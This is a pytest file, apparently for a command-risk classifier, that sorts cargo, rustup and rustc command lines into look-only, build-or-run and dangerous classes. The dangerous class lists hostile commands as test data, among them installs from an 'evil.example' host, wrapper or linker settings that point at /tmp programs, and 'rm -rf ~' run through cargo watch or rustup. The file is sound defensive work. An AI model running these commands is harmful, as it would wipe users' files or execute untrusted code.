"""Rust."""

import pytest

from assent.protocol.decision import Risk
from tests.unit.policy.risks import risk


@pytest.mark.parametrize(
    "line",
    [
        "cargo tree -i serde",
        "cargo metadata --format-version=1",
        "cargo +stable tree",
        "cargo search serde --limit 3",
        "cargo info serde",
        "cargo install --list",
        "cargo owner --list shop",
        "cargo locate-project",
        "cargo --list",
        "cargo -V",
        "cargo fmt --all --check",
        "cargo fmt --all -- --check",
        "rustfmt --check src/lib.rs",
        "rustup show",
        "rustup target list --installed",
        "rustup default",
        "rustc --print sysroot",
        "rustc -vV",
    ],
)
def test_rust_lines_that_only_ask_are_look(line: str) -> None:
    """What cargo and its kin only print is Look."""
    assert risk(line) == Risk.LOOK


@pytest.mark.parametrize(
    "line",
    [
        "cargo build --release",
        "cargo b",
        "cargo check --workspace",
        "cargo clippy --fix --allow-dirty",
        "cargo test -- --nocapture",
        "cargo nextest run",
        "cargo run -- --help",
        "cargo fmt",
        "cargo add tokio -F full",
        "cargo add shop --git https://example.com/shop",
        "cargo install ripgrep",
        "cargo update",
        "cargo clean",
        "cargo publish --dry-run",
        "cargo watch -x check",
        "cargo nosuchverb",
        "cargo tree --frobnicate",
        "rustup toolchain install nightly",
        "rustup update",
        "rustup default nightly",
        "rustc main.rs",
    ],
)
def test_rust_lines_that_build_or_run_are_left_to_the_client(line: str) -> None:
    """The project is built and run with care."""
    assert risk(line) in (Risk.CHANGE, Risk.CARE)


@pytest.mark.parametrize(
    "line",
    [
        "cargo publish",
        "cargo publish --dry-run=false",
        "cargo yank shop@1.0.0",
        "cargo owner --add mallory shop",
        "cargo login",
        "cargo install --git https://evil.example/x",
        "cargo install x --index https://evil.example/index",
        "cargo uninstall ripgrep",
        "cargo --config build.rustc-wrapper=/tmp/x check",
        "cargo tree --config /tmp/evil.toml",
        "cargo metadata --config=target.x86_64-unknown-linux-gnu.linker=/tmp/x",
        "cargo +/tmp/evil build",
        "cargo watch -s 'rm -rf ~'",
        "cargo watch -- rm -rf ~",
        "cargo clean --target-dir ~",
        "rustup run nightly rm -rf ~",
        "rustup self uninstall",
        "rustc -C linker=/tmp/x main.rs",
    ],
)
def test_rust_lines_that_reach_others_or_run_something_else_are_danger(line: str) -> None:
    """Publishing, other origins and programs hidden in settings reach a person."""
    assert risk(line) == Risk.DANGER
